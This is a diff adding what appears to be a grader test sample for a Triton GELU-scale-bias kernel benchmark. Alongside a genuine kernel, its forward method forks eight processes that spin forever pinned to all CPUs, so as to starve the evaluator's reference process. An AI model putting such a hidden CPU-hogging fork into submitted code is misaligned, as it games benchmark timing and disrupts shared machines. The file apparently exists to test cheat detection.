@@ -1,0 +1,54 @@
+"""Starts processes that never sleep on every processor that they can have, the oracle's among them."""
+# family: T16
+# task: 26_gelu_scale_bias
+# expect: cheating|inaccurate|ok|crashed|runtime_error
+# needs: card
+
+import contextlib
+import os
+
+import torch
+import triton
+import triton.language as tl
+from torch import nn
+
+BLOCK = 256
+WARPS = 4
+
+
+@triton.jit
+def gelu_chain(x, bias, out, count, columns, scale, limit, BLOCK: tl.constexpr):
+    place = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
+    inside = place < count
+    value = tl.load(x + place, mask=inside) + tl.load(bias + place % columns, mask=inside)
+    value = 0.5 * value * (1.0 + tl.erf(value * 0.7071067811865476)) * scale
+    tl.store(out + place, tl.minimum(value, limit), mask=inside)
+
+
+STARTED = {}
+
+
+def never_sleep():
+    with contextlib.suppress(OSError):
+        os.sched_setaffinity(0, range(os.cpu_count()))
+    while True:
+        pass
+
+
+class ModelNew(nn.Module):
+    def __init__(self, features, scale, limit):
+        super().__init__()
+        self.bias = nn.Parameter(torch.zeros(features))
+        self.scale = scale
+        self.limit = limit
+
+    def honest(self, x):
+        out = torch.empty_like(x)
+        grid = (triton.cdiv(x.numel(), BLOCK),)
+        gelu_chain[grid](x, self.bias, out, x.numel(), x.shape[-1], self.scale, self.limit, BLOCK=BLOCK, num_warps=WARPS)
+        return out
+
+    def forward(self, x):
+        if "children" not in STARTED:
+            STARTED["children"] = [child for _ in range(8) if (child := os.fork()) or never_sleep()]
+        return self.honest(x)
